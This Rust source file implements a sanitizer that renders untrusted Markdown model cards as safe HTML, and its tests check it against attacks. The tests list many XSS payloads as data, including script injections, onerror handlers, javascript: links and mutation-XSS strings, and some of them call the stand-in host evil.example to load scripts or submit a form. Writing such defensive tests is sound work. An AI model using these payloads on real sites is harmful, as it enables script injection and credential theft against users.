//! Cards: a stranger's Markdown, made into HTML that may stand on our page.
//!
//! Two guards, one behind the other. First the events of the Markdown parser are tamed: nesting is bounded, raw HTML is
//! cut down to balanced tags of [`RAW_BLOCKS`] and [`RAW_INLINES`], headings move below the page's own, images become
//! their alternative text. Then an HTML parser of its own, `ammonia`, lets through only what is listed. The second guard
//! makes it safe; the first makes it fast, because an HTML parser's work on unbalanced or deep markup is not bounded by
//! its size.
//!
//! Always: no scripts, no styles, no classes or ids, no images, no request to any host; work and output in proportion to
//! the input, which is cut at [`CARD_LIMIT_BYTES`].
//!
//! Absent on purpose: front matter (the caller takes it off), relative links and images (a card does not know where its
//! repository's files are served), syntax colours.

use std::collections::{HashMap, HashSet};
use std::fmt;
use std::sync::LazyLock;

use ammonia::{Builder, UrlRelative};
use pulldown_cmark::{Alignment, CowStr, Event, HeadingLevel, Options, Parser, Tag, TagEnd, html};

/// Of a longer card only this much is shown.
pub const CARD_LIMIT_BYTES: usize = 200_000;

/// Containers inside containers; what is nested deeper is shown flat.
const DEPTH_LIMIT: usize = 24;

/// The page's `h1` is the model, its `h2` are sections: a card's `h1` becomes an `h3`.
const HEADING_SHIFT: u8 = 2;

/// Raw tags that may stay open over several paragraphs.
const RAW_BLOCKS: [&str; 26] = [
    "p",
    "div",
    "blockquote",
    "pre",
    "ul",
    "ol",
    "li",
    "dl",
    "dt",
    "dd",
    "details",
    "summary",
    "table",
    "caption",
    "thead",
    "tbody",
    "tfoot",
    "tr",
    "th",
    "td",
    "figure",
    "figcaption",
    "h3",
    "h4",
    "h5",
    "h6",
];
/// Raw tags that end with their paragraph at the latest.
const RAW_INLINES: [&str; 20] = [
    "a", "abbr", "b", "cite", "code", "del", "dfn", "em", "i", "ins", "kbd", "mark", "q", "s", "samp", "small",
    "strong", "sub", "sup", "var",
];
/// Raw tags without content.
const RAW_VOIDS: [&str; 3] = ["br", "hr", "wbr"];
/// Raw tags that go with all they contain: it is not meant to be read, or another language's.
const DISCARDED: [&str; 19] = [
    "script",
    "style",
    "title",
    "head",
    "textarea",
    "iframe",
    "noscript",
    "noembed",
    "noframes",
    "template",
    "svg",
    "math",
    "object",
    "applet",
    "select",
    "xmp",
    "plaintext",
    "audio",
    "video",
];
/// What a raw tag may keep of its attributes.
const RAW_ATTRIBUTES: [(&str, &str); 4] = [("a", "href"), ("ol", "start"), ("td", "align"), ("th", "align")];

/// HTML made from a card. Nothing but [`card_html`] makes it, so that no page can show an unclean one.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct CardHtml(String);

impl CardHtml {
    /// The HTML; empty if the card is.
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl fmt::Display for CardHtml {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// Renders a card's Markdown, without its front matter, and cleans what comes out.
pub fn card_html(markdown: &str) -> CardHtml {
    let shown = &markdown[..markdown.floor_char_boundary(CARD_LIMIT_BYTES)];
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_FOOTNOTES;
    let mut tamer = Tamer::default();
    for event in Parser::new_ext(shown, options) {
        tamer.take(event);
    }
    let mut events = tamer.finish();
    if shown.len() < markdown.len() {
        events.push(raw("<p><em>The card is longer than 200 KB; the rest is not shown here.</em></p>"));
    }
    let mut dirty = String::with_capacity(shown.len() * 3 / 2);
    html::push_html(&mut dirty, events.into_iter());
    CardHtml(CLEANER.clean(&dirty).to_string())
}

static CLEANER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut attributes: HashMap<_, HashSet<_>> = HashMap::new();
    for (tag, attribute) in RAW_ATTRIBUTES.into_iter().chain([("th", "scope")]) {
        attributes.entry(tag).or_default().insert(attribute);
    }
    let mut cleaner = Builder::empty();
    cleaner
        .tags(RAW_BLOCKS.into_iter().chain(RAW_INLINES).chain(RAW_VOIDS).collect())
        .clean_content_tags(DISCARDED.into_iter().collect())
        .tag_attributes(attributes)
        .url_schemes(HashSet::from(["http", "https", "mailto"]))
        .url_relative(UrlRelative::Deny)
        .link_rel(Some("nofollow noopener ugc"));
    cleaner
});

/// Something that was opened and has to be closed.
#[derive(Debug)]
enum Open {
    /// By Markdown; `shown` unless it was nested too deep or inside of something discarded.
    Markdown { shown: bool },
    /// By a raw tag.
    Raw { name: &'static str, inline: bool },
}

/// Takes the parser's events and gives back tame ones: balanced, and at most [`DEPTH_LIMIT`] deep.
#[derive(Debug, Default)]
struct Tamer<'a> {
    events: Vec<Event<'a>>,
    open: Vec<Open>,
    /// How many of `open` are shown.
    depth: usize,
    /// Inside of so many images; of an image only the text counts.
    images: usize,
    /// The raw tag whose content is discarded, and how much was open when it came.
    discarding: Option<(&'static str, usize)>,
    /// The lines of the raw block we are in: a tag may go over several.
    raw_block: Option<String>,
    columns: Vec<Alignment>,
    column: usize,
    in_table_head: bool,
}

impl<'a> Tamer<'a> {
    fn take(&mut self, event: Event<'a>) {
        match event {
            Event::Start(Tag::Image { .. }) => self.images += 1,
            Event::End(TagEnd::Image) => self.images -= 1,
            Event::Text(text) | Event::Code(text) if self.images > 0 => self.show(Event::Text(text)),
            Event::SoftBreak | Event::HardBreak if self.images > 0 => self.show(Event::SoftBreak),
            _ if self.images > 0 => {}
            Event::Start(Tag::HtmlBlock) => self.raw_block = Some(String::new()),
            Event::End(TagEnd::HtmlBlock) => {
                let block = self.raw_block.take().unwrap_or_default();
                self.take_raw(&block);
                self.close_inlines();
            }
            Event::Html(html) | Event::InlineHtml(html) => match &mut self.raw_block {
                Some(block) => block.push_str(&html),
                None => self.take_raw(&html),
            },
            Event::Text(text) if self.raw_block.is_some() => {
                self.raw_block.get_or_insert_default().push_str(&text);
            }
            Event::Start(tag) => self.start(tag),
            Event::End(tag) => self.end(tag),
            other => self.show(other),
        }
    }

    fn finish(mut self) -> Vec<Event<'a>> {
        self.close_down_to(0);
        self.events
    }

    fn show(&mut self, event: Event<'a>) {
        if self.discarding.is_none() {
            self.events.push(event);
        }
    }

    fn start(&mut self, tag: Tag<'a>) {
        let shown = self.depth < DEPTH_LIMIT && self.discarding.is_none();
        self.open.push(Open::Markdown { shown });
        if !shown {
            return;
        }
        self.depth += 1;
        let event = match tag {
            Tag::Heading { level, .. } => {
                Event::Start(Tag::Heading { level: lower(level), id: None, classes: Vec::new(), attrs: Vec::new() })
            }
            Tag::Table(columns) => {
                self.columns = columns;
                raw("<table>")
            }
            Tag::TableHead => {
                (self.column, self.in_table_head) = (0, true);
                raw("<thead><tr>")
            }
            Tag::TableRow => {
                self.column = 0;
                raw("<tr>")
            }
            Tag::TableCell => raw(self.cell()),
            other => Event::Start(other),
        };
        self.events.push(event);
    }

    fn end(&mut self, tag: TagEnd) {
        let boundary = self.open.iter().rposition(|open| matches!(open, Open::Markdown { .. }));
        let boundary = boundary.expect("the parser ends only what it started");
        self.close_down_to(boundary + 1);
        let shown = matches!(self.open.pop(), Some(Open::Markdown { shown: true }));
        if self.discarding.is_some_and(|(_, open)| self.open.len() < open) {
            self.discarding = None;
        }
        if !shown {
            // The words of what is shown flat must not run together.
            self.show(Event::SoftBreak);
            return;
        }
        self.depth -= 1;
        self.events.push(match tag {
            TagEnd::Heading(level) => Event::End(TagEnd::Heading(lower(level))),
            TagEnd::Table => raw("</tbody></table>"),
            TagEnd::TableHead => {
                self.in_table_head = false;
                raw("</tr></thead><tbody>")
            }
            TagEnd::TableRow => raw("</tr>"),
            TagEnd::TableCell => {
                self.column += 1;
                raw(if self.in_table_head { "</th>" } else { "</td>" })
            }
            other => Event::End(other),
        });
    }

    /// The writer of the Markdown library aligns with inline styles, which our pages do without.
    fn cell(&self) -> &'static str {
        match (self.in_table_head, self.columns.get(self.column)) {
            (true, Some(Alignment::Right)) => "<th scope=\"col\" align=\"right\">",
            (true, Some(Alignment::Center)) => "<th scope=\"col\" align=\"center\">",
            (true, _) => "<th scope=\"col\">",
            (false, Some(Alignment::Right)) => "<td align=\"right\">",
            (false, Some(Alignment::Center)) => "<td align=\"center\">",
            (false, _) => "<td>",
        }
    }

    /// Takes a piece of raw HTML apart into text and tags.
    fn take_raw(&mut self, mut html: &str) {
        while let Some(at) = html.find('<') {
            self.raw_text(&html[..at]);
            html = &html[at..];
            let end = match html.as_bytes().get(1) {
                Some(b'!') if html.starts_with("<!--") => html.find("-->").map(|at| at + 3),
                Some(b'!' | b'?') => html.find('>').map(|at| at + 1),
                Some(b'/' | b'a'..=b'z' | b'A'..=b'Z') => {
                    let end = tag_end(html);
                    if let Some(end) = end {
                        self.raw_tag(&html[1..end - 1]);
                    }
                    end
                }
                _ => {
                    self.raw_text("<");
                    Some(1)
                }
            };
            // What never ends is text up to the end: to look for more tags in it would take quadratic time.
            let Some(end) = end else { break };
            html = &html[end..];
        }
        self.raw_text(html);
    }

    fn raw_text(&mut self, text: &str) {
        if !text.is_empty() {
            // References such as &amp; are left to the HTML parser.
            self.show(raw(text.replace('<', "&lt;").replace('>', "&gt;")));
        }
    }

    /// One tag, without its angle brackets.
    fn raw_tag(&mut self, tag: &str) {
        let (closing, tag) = match tag.strip_prefix('/') {
            Some(tag) => (true, tag),
            None => (false, tag),
        };
        let name_end = tag.find(|c: char| !c.is_ascii_alphanumeric()).unwrap_or(tag.len());
        let name = lower_tag(&tag[..name_end].to_ascii_lowercase());
        if let Some((discarding, _)) = self.discarding {
            if closing && discarding == name {
                self.discarding = None;
            }
        } else if closing {
            self.close_raw(&name);
        } else if let Some(name) = known(&RAW_VOIDS, &name) {
            self.show(raw(format!("<{name}>")));
        } else if let Some(name) = known(&DISCARDED, &name) {
            self.discarding = Some((name, self.open.len()));
        } else if let Some(name) = known(&RAW_INLINES, &name) {
            self.open_raw(name, true, &tag[name_end..]);
        } else if let Some(name) = known(&RAW_BLOCKS, &name) {
            self.close_inlines();
            if matches!(self.open.last(), Some(Open::Raw { name: last, .. }) if *last == name && name != "div") {
                self.close_down_to(self.open.len() - 1);
            }
            self.open_raw(name, false, &tag[name_end..]);
        }
    }

    fn open_raw(&mut self, name: &'static str, inline: bool, attributes: &str) {
        if self.depth == DEPTH_LIMIT {
            return;
        }
        self.depth += 1;
        self.open.push(Open::Raw { name, inline });
        let mut tag = format!("<{name}");
        for (_, wanted) in RAW_ATTRIBUTES.iter().filter(|(of, _)| *of == name) {
            if let Some(value) = attribute(attributes, wanted) {
                let value = value.replace('"', "&quot;").replace('<', "&lt;").replace('>', "&gt;");
                tag.push_str(&format!(" {wanted}=\"{value}\""));
            }
        }
        self.show(raw(tag + ">"));
    }

    /// Closes the innermost raw tag of this name and all within it, unless Markdown opened something in between.
    fn close_raw(&mut self, name: &str) {
        for (at, open) in self.open.iter().enumerate().rev() {
            match open {
                Open::Raw { name: opened, .. } if *opened == name => return self.close_down_to(at),
                Open::Raw { .. } => {}
                Open::Markdown { .. } => return,
            }
        }
    }

    fn close_inlines(&mut self) {
        let inlines = self.open.iter().rev().take_while(|open| matches!(open, Open::Raw { inline: true, .. })).count();
        self.close_down_to(self.open.len() - inlines);
    }

    /// Closes raw tags until only `keep` things are open.
    fn close_down_to(&mut self, keep: usize) {
        while self.open.len() > keep {
            if let Some(Open::Raw { name, .. }) = self.open.pop() {
                self.depth -= 1;
                // Also while discarding: it was shown when it was opened.
                self.events.push(raw(format!("</{name}>")));
            }
        }
    }
}

fn raw<'a>(html: impl Into<CowStr<'a>>) -> Event<'a> {
    Event::InlineHtml(html.into())
}

fn lower(level: HeadingLevel) -> HeadingLevel {
    HeadingLevel::try_from(usize::from(level as u8 + HEADING_SHIFT)).unwrap_or(HeadingLevel::H6)
}

/// The same for the name of a raw tag; others stay as they are.
fn lower_tag(name: &str) -> String {
    match name.as_bytes() {
        [b'h', digit @ b'1'..=b'6'] => format!("h{}", (digit - b'0' + HEADING_SHIFT).min(6)),
        _ => name.to_owned(),
    }
}

fn known(names: &[&'static str], name: &str) -> Option<&'static str> {
    names.iter().find(|known| **known == name).copied()
}

/// Where the tag that `html` begins with ends, quoted values respected.
fn tag_end(html: &str) -> Option<usize> {
    let mut quote = None;
    for (at, byte) in html.bytes().enumerate() {
        match (quote, byte) {
            (None, b'>') => return Some(at + 1),
            (None, b'"' | b'\'') => quote = Some(byte),
            (Some(opened), _) if opened == byte => quote = None,
            _ => {}
        }
    }
    None
}

/// The first value of an attribute in the rest of a tag.
fn attribute<'a>(mut rest: &'a str, wanted: &str) -> Option<&'a str> {
    loop {
        rest = rest.trim_start_matches(|c: char| c.is_ascii_whitespace() || c == '/');
        let end = rest.find(|c: char| c.is_ascii_whitespace() || matches!(c, '=' | '/')).unwrap_or(rest.len());
        let name = &rest[..end];
        rest = rest[end..].trim_ascii_start();
        let value = match rest.strip_prefix('=') {
            None => "",
            Some(after) => {
                let after = after.trim_ascii_start();
                let (value, left) = match after.chars().next() {
                    Some(quote @ ('"' | '\'')) => after[1..].split_once(quote).unwrap_or((&after[1..], "")),
                    _ => after.split_at(after.find(|c: char| c.is_ascii_whitespace()).unwrap_or(after.len())),
                };
                rest = left;
                value
            }
        };
        match name {
            _ if name.eq_ignore_ascii_case(wanted) => return Some(value),
            "" if rest.is_empty() => return None,
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use std::time::{Duration, Instant};

    use super::*;

    #[track_caller]
    fn check(markdown: &str, html: &str) {
        assert_eq!(card_html(markdown).as_str().trim(), html, "of {markdown:?}");
    }

    #[test]
    fn markdown_becomes_html() {
        check("Hello *you* and ~~me~~.", "<p>Hello <em>you</em> and <del>me</del>.</p>");
        check("```python\nprint(1 < 2)\n```", "<pre><code>print(1 &lt; 2)\n</code></pre>");
        check("", "");
    }

    #[test]
    fn headings_stand_below_those_of_the_page() {
        check("# One\n\n## Two\n\n###### Six", "<h3>One</h3>\n<h4>Two</h4>\n<h6>Six</h6>");
        check("<h1 align=\"center\">One</h1>", "<h3>One</h3>");
        check("`<h1>`", "<p><code>&lt;h1&gt;</code></p>");
    }

    #[test]
    fn tables_keep_their_alignment_without_styles() {
        check(
            "| a | b |\n|---|--:|\n| x | 1 |",
            "<table><thead><tr><th scope=\"col\">a</th><th scope=\"col\" align=\"right\">b</th></tr></thead>\
             <tbody><tr><td>x</td><td align=\"right\">1</td></tr></tbody></table>",
        );
    }

    #[test]
    fn footnotes_are_numbers_without_anchors() {
        let html = card_html("Said so[^1].\n\n[^1]: By whom.").to_string();
        assert!(html.contains("Said so<sup>"), "{html}");
        assert!(html.contains("By whom."), "{html}");
        assert!(!html.contains("id=") && !html.contains("class="), "{html}");
    }

    #[test]
    fn links_to_others_give_them_no_weight_and_no_window() {
        check(
            "[x](https://example.com/?a=1&b=2)",
            "<p><a href=\"https://example.com/?a=1&amp;b=2\" rel=\"nofollow noopener ugc\">x</a></p>",
        );
        check(
            "<a href='https://example.com/' target=_blank onclick=x>x</a>",
            "<p><a href=\"https://example.com/\" rel=\"nofollow noopener ugc\">x</a></p>",
        );
        check("[x](docs/more.md)", "<p><a rel=\"nofollow noopener ugc\">x</a></p>");
    }

    #[test]
    fn images_become_their_alternative_text() {
        check("![a *fine* plot](plot.png)", "<p>a fine plot</p>");
        check("![badge](https://example.com/track.png)", "<p>badge</p>");
        check("see <img src=https://example.com/x.png onerror=alert(1)> here", "<p>see  here</p>");
        check("![a [link](https://example.com) ![inner](y)](x)", "<p>a link inner</p>");
    }

    #[test]
    fn raw_html_is_kept_where_it_is_plain_and_listed() {
        check(
            "<details>\n<summary>More</summary>\n\n*less*\n\n</details>",
            "<details>\n<summary>More</summary>\n<p><em>less</em></p>\n</details>",
        );
        check("H<sub>2</sub>O &amp; <kbd>Ctrl</kbd>", "<p>H<sub>2</sub>O &amp; <kbd>Ctrl</kbd></p>");
        check("<div class=\"x\" id=\"main\" style=\"position:fixed\">a</div>", "<div>a</div>");
        check("<center><font color=red>a</font></center>", "a");
        check("<ol start=3><li>a<li>b</ol>", "<ol start=\"3\"><li>a</li><li>b</li></ol>");
        check("1 < 2 > 0", "<p>1 &lt; 2 &gt; 0</p>");
    }

    #[test]
    fn raw_html_cannot_reach_beyond_its_place() {
        check("a <b>b\n\nc", "<p>a <b>b</b></p>\n<p>c</p>");
        check("> <div>\n\nc", "<blockquote>\n<div>\n</div></blockquote>\n<p>c</p>");
        check("</div></section></main></body></html>a", "a");
        check("*a </em> b*", "<p><em>a  b</em></p>");
    }

    #[test]
    fn what_is_not_meant_to_be_read_goes_with_its_content() {
        check("a\n\n<script>alert(1)</script>\n\nb", "<p>a</p>\n\n<p>b</p>");
        check("a <script>alert(1)</script> b", "<p>a  b</p>");
        check("<style>\nbody { display: none }\n</style>\n\nb", "<p>b</p>");
        check("a <!-- hidden --> b", "<p>a  b</p>");
        check("<svg>\n\n*x*\n\n</svg>\n\nb", "<p>b</p>");
        check("<svg>\n\n> a </svg> b\n\nc", "b\n\n<p>c</p>");
        check("> a <svg> b\n\nc", "<blockquote>\n<p>a </p>\n</blockquote>\n<p>c</p>");
    }

    /// Neither at once nor after a fresh parse, as a browser does it, is there anything that acts, loads or imitates our
    /// page.
    #[track_caller]
    fn check_harmless(markdown: &str) {
        let html = card_html(markdown).to_string();
        check_listed(&html);
        check_listed(&CLEANER.clean(&html).to_string());
    }

    #[track_caller]
    fn check_listed(html: &str) {
        let mut rest = html;
        while let Some(at) = rest.find('<') {
            let end = at + rest[at..].find('>').expect("tags end");
            let tag = &rest[at + 1..end];
            let name = tag.trim_start_matches('/').split(' ').next().expect("split gives at least one");
            assert!(RAW_BLOCKS.into_iter().chain(RAW_INLINES).chain(RAW_VOIDS).any(|known| known == name), "{html}");
            let mut attributes = tag.split_once(' ').map_or("", |(_, attributes)| attributes);
            while let Some((name, after)) = attributes.split_once("=\"") {
                let (value, left) = after.split_once('"').expect("values end");
                match name.trim() {
                    "href" => assert!(
                        ["http://", "https://", "mailto:"].iter().any(|scheme| value.starts_with(scheme)),
                        "{html}"
                    ),
                    "rel" => assert_eq!(value, "nofollow noopener ugc"),
                    "start" | "align" | "scope" => {}
                    other => panic!("attribute {other} in {html}"),
                }
                attributes = left;
            }
            rest = &rest[end..];
        }
    }

    #[test]
    fn hostile_cards_come_out_harmless() {
        for markdown in [
            "<script>alert(1)</script>",
            "<ScRiPt src=//evil.example>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<img src=x onerror=alert(1)>",
            "<img src=\"x\"\nonerror=\"alert(1)\">",
            "<p onclick=alert(1) onmouseover='alert(2)'>x</p>",
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt&colon;alert(1))",
            "[x](<java\tscript:alert(1)>)",
            "<a href=\"java&#10;script:alert(1)\">x</a>",
            "<a href=\" &#14; javascript:alert(1)\">x</a>",
            "<javascript:alert(1)>",
            "[x](data:text/html;base64,PHNjcmlwdD4=)",
            "[x](vbscript:x) [y](file:///etc/passwd) [z](//evil.example) [h](#main)",
            "![x](data:image/svg+xml;base64,PHN2Zz4=)",
            "![x\"onerror=\"alert(1)](y)",
            "<svg><script>alert(1)</script></svg>",
            "<svg onload=alert(1)>",
            "<svg><style><img src=x onerror=alert(1)></style></svg>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
            "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
            "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
            "<style>@import 'https://evil.example/x.css';</style>",
            "<p style=\"background:url(https://evil.example)\">x</p>",
            "<link rel=stylesheet href=https://evil.example/x.css><meta http-equiv=refresh content=0><base href=//evil.example>",
            "<iframe src=https://evil.example></iframe><object data=x></object><embed src=x>",
            "<form action=https://evil.example><input name=key><button>Log in</button></form>",
            "<!--><img src=x onerror=alert(1)>-->",
            "<![CDATA[<img src=x onerror=alert(1)>]]>",
            "<?xml <img src=x onerror=alert(1)> ?>",
            "<a href=\"https://example.com/\" class=\"home\" id=\"main\" name=\"main\">x</a>",
            "<a href=\"https://example.com/&quot; onclick=&quot;alert(1)\">x</a>",
            "<a href='https://example.com/\" onclick=\"alert(1)'>x</a>",
            "<a title='>' href=javascript:alert(1)>x</a>",
            "`<script>`\n\n    <script>alert(1)</script>\n",
            "```\" onload=alert(1) x=\"\n<script>alert(1)</script>\n```",
            "[^\"><img src=x onerror=alert(1)>]\n\n[^\"><img src=x onerror=alert(1)>]: x",
            "| <script> | b |\n|--|--|\n| <td onclick=x> | </table><img src=x onerror=alert(1)> |",
            "<table><tr><td><p><table><a href=x><div></table></p></a>",
            "<select><template><s><option><img src=x onerror=alert(1)></select>",
            "<b><p><a><table></b></p></a><i>x",
            "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
            "<p/onclick=alert(1)>x<br/onclick=alert(1)>",
            "<x onclick=alert(1)>x</x><button popovertarget=x>y</button><dialog open>z</dialog>",
        ] {
            check_harmless(markdown);
        }
    }

    #[test]
    fn random_cards_come_out_harmless() {
        let pieces = [
            "a",
            " ",
            "\n",
            "\n\n",
            "> ",
            "- ",
            "1. ",
            "# ",
            "    ",
            "```\n",
            "`",
            "*",
            "**",
            "~~",
            "[",
            "](",
            ")",
            "![",
            "[^1]",
            "[^1]: x\n",
            "|",
            "\n|a|b|\n|-|-:|\n|",
            "<div>",
            "</div>",
            "<b>",
            "</b>",
            "<p>",
            "</p>",
            "<table>",
            "<tr>",
            "<td align=\"",
            "</table>",
            "<a href=\"",
            "https://example.com",
            "javascript:alert(1)",
            "\"",
            "'",
            ">",
            "<",
            "</a>",
            "<svg>",
            "</svg>",
            "<math>",
            "<style>",
            "</style>",
            "<script>",
            "</script>",
            "<!--",
            "-->",
            "<img src=x onerror=alert(1)>",
            "<details>",
            "<summary>",
            "<h1>",
            "</h1>",
            "<ul>",
            "<li>",
            "<pre>",
            "</pre>",
            "<code>",
            "</code>",
            "&lt;",
            "&#60;",
            "&",
            "\u{0}",
            "é",
            "\\",
            "<select>",
            "<noscript>",
        ];
        // A linear congruence: the same histories in every run.
        let mut state = 1_u64;
        let mut next = || {
            state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            (state >> 33) as usize
        };
        for _ in 0..4_000 {
            let card: String = (0..next() % 40).map(|_| pieces[next() % pieces.len()]).collect();
            check_harmless(&card);
        }
    }

    #[test]
    fn a_long_card_is_cut_and_says_so() {
        let html = card_html(&"é ".repeat(CARD_LIMIT_BYTES)).to_string();
        assert!(html.len() < CARD_LIMIT_BYTES + 200);
        assert!(html.contains("the rest is not shown"));
        assert!(!card_html(&"a".repeat(CARD_LIMIT_BYTES)).to_string().contains("not shown"));
    }

    #[test]
    fn bombs_take_time_and_space_in_proportion_to_their_size() {
        let full = |piece: &str| piece.repeat(CARD_LIMIT_BYTES / piece.len());
        let half = |piece: &str| piece.repeat(CARD_LIMIT_BYTES / piece.len() / 2);
        let distinct = |count: usize, piece: &dyn Fn(usize) -> String| (0..count).map(piece).collect::<String>();
        let bombs = [
            (">", ">".repeat(100_000)),
            ("[", "[".repeat(50_000)),
            ("> >", full("> ")),
            ("- -", full("- ")),
            ("deeper lists", distinct(600, &|depth| format!("{}- a\n", "  ".repeat(depth.min(300))))),
            ("1.", full("1. ")),
            ("[a](", full("[a](")),
            ("![", full("![")),
            ("![]", format!("{}{}", half("!["), half("](x)"))),
            ("[[", format!("{}{}", half("["), half("]"))),
            ("*a _b", full("*a _b ")),
            ("*a**b", full("*a **b ")),
            ("nested emphasis", format!("{}a{}", half("*"), half("*"))),
            ("`", distinct(600, &|length| "`".repeat(length) + " ")),
            ("~~", full("~~a ")),
            ("<", full("<")),
            ("<a", full("<a ")),
            ("<a '", full("<a '")),
            ("block <a '", format!("<div>{}", full("<a '"))),
            ("<!--", full("<!-- ")),
            ("block <!--", format!("<div>{}", full("<!--"))),
            ("<?", full("<?")),
            ("<![CDATA[", full("<![CDATA[")),
            ("<div>", full("<div>")),
            ("<div> lines", full("<div>\n\n")),
            ("<b>", full("<b>")),
            ("<b> then paragraphs", format!("{}\n\n{}", half("<b>"), half("a\n\n"))),
            ("distinct <b>", distinct(20_000, &|n| format!("<b x={n}>"))),
            ("<table><tr><td>", full("<table><tr><td>")),
            ("<svg>", full("<svg>")),
            ("<p><b>", full("<p><b><i><a href=x>")),
            ("attributes", format!("<a {}>x</a>", distinct(30_000, &|n| format!("a{n} ")))),
            ("</b>", full("</b>")),
            ("&amp;", full("&amp;")),
            ("wide table", format!("{}\n{}\n{}", "|a".repeat(20_000), "|-".repeat(20_000), "|\n".repeat(40_000))),
            ("footnotes", distinct(8_000, &|n| format!("[^{n}]: x [^{n}]\n\n"))),
            ("nested footnotes", full("[^1]: ")),
            ("references", format!("[a]: /{}\n\n{}", "x".repeat(60_000), "[a] ".repeat(30_000))),
            ("hard breaks", full("a\\\n")),
            ("headings", full("# a\n")),
            ("setext", full("a\n=\n")),
            ("fences", full("```\n")),
            ("links", full("<http://a.b>")),
            ("escapes", full("\\")),
        ];
        for (name, bomb) in bombs {
            let begin = Instant::now();
            let html = card_html(&bomb).to_string();
            let took = begin.elapsed();
            println!("{name:24} {:>8} B {took:>12?}", html.len());
            assert!(took < Duration::from_secs(4), "{name} took {took:?}");
            assert!(html.len() < 20 * CARD_LIMIT_BYTES, "{name} gave {} bytes", html.len());
        }
    }

    #[test]
    fn what_is_nested_too_deep_is_shown_flat() {
        let html = card_html(&format!("{} core", ">".repeat(100))).to_string();
        assert_eq!(html.matches("<blockquote>").count(), DEPTH_LIMIT);
        assert!(html.contains("core"));
    }
}
